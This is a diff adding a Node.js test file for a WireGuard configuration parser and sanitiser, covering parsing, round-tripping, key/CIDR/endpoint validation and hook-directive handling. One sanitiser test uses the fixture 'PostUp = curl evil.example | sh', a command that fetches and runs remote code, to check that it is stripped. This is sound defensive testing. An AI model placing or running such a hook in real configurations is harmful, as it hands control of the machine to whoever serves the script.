@@ -0,0 +1,82 @@
+const { test } = require('node:test');
+const assert = require('node:assert');
+const crypto = require('crypto');
+const { HOOK_POLICIES, parseConfig, serializeConfig, sanitizeConfig, isKey, isCidr, isEndpoint } = require('../lib/wgconfig.cjs');
+
+const key = () => crypto.randomBytes(32).toString('base64');
+
+function configText({ interfaceLines = [], peerLines = [] } = {}) {
+  return [
+    '[Interface]',
+    `PrivateKey = ${key()}`,
+    'Address = 10.8.0.2/32',
+    'DNS = 10.8.0.1',
+    ...interfaceLines,
+    '',
+    '[Peer]',
+    `PublicKey = ${key()}`,
+    'AllowedIPs = 0.0.0.0/0, ::/0',
+    'Endpoint = 203.0.113.5:51820',
+    ...peerLines
+  ].join('\n');
+}
+
+test('parseConfig drops comments and normalises key case', () => {
+  const sections = parseConfig('[interface]\n# comment\nprivatekey = abc # trailing\n\n[PEER]\nendpoint = 1.2.3.4:1\n');
+
+  assert.deepStrictEqual(sections, [
+    { name: 'Interface', entries: [{ key: 'PrivateKey', value: 'abc' }] },
+    { name: 'Peer', entries: [{ key: 'Endpoint', value: '1.2.3.4:1' }] }
+  ]);
+});
+
+test('parseConfig rejects text that is not a WireGuard config', () => {
+  assert.throws(() => parseConfig('<html>Bad gateway</html>'), /no \[Interface\] section/);
+  assert.throws(() => parseConfig('[Interface]\nthis is not a pair'), /line 2: expected "Key = Value"/);
+});
+
+test('serializeConfig round-trips parsed sections', () => {
+  const text = '[Interface]\nPrivateKey = abc\n\n[Peer]\nEndpoint = 1.2.3.4:1\n';
+  assert.strictEqual(serializeConfig(parseConfig(text)), text);
+});
+
+test('sanitizeConfig strips hook directives by default', () => {
+  const result = sanitizeConfig(configText({ interfaceLines: ['PostUp = curl evil.example | sh'] }));
+
+  assert.deepStrictEqual(result.stripped, [{ key: 'PostUp', value: 'curl evil.example | sh' }]);
+  assert.doesNotMatch(result.text, /PostUp/);
+});
+
+test('sanitizeConfig rejects or keeps hooks when asked to', () => {
+  const text = configText({ interfaceLines: ['PreUp = true'] });
+
+  assert.throws(() => sanitizeConfig(text, { hooks: HOOK_POLICIES.REJECT }), /PreUp is not allowed/);
+  assert.match(sanitizeConfig(text, { hooks: HOOK_POLICIES.ALLOW }).text, /PreUp = true/);
+});
+
+test('sanitizeConfig lists every problem it finds', () => {
+  const text = configText({ peerLines: ['Endpoint = nowhere', 'PersistentKeepalive = often'] });
+
+  assert.throws(() => sanitizeConfig(text), error => {
+    assert.match(error.message, /Endpoint is set more than once/);
+    assert.match(error.message, /PersistentKeepalive often is not a number of seconds/);
+    return true;
+  });
+  assert.throws(() => sanitizeConfig('[Interface]\nAddress = 10.8.0.2/32\n'), /No \[Peer\] section[\s\S]*PrivateKey is missing/);
+});
+
+test('isKey, isCidr and isEndpoint', () => {
+  assert.ok(isKey(key()));
+  assert.ok(!isKey('not-a-key'));
+
+  assert.ok(isCidr('10.0.0.0/8'));
+  assert.ok(isCidr('2001:db8::/32'));
+  assert.ok(!isCidr('10.0.0.0/33'));
+  assert.ok(!isCidr('10.0.0.1'));
+  assert.ok(isCidr('10.0.0.1', { prefixRequired: false }));
+
+  assert.ok(isEndpoint('vpn.example.com:51820'));
+  assert.ok(isEndpoint('[2001:db8::1]:51820'));
+  assert.ok(!isEndpoint('2001:db8::1:51820'));
+  assert.ok(!isEndpoint('203.0.113.5:70000'));
+});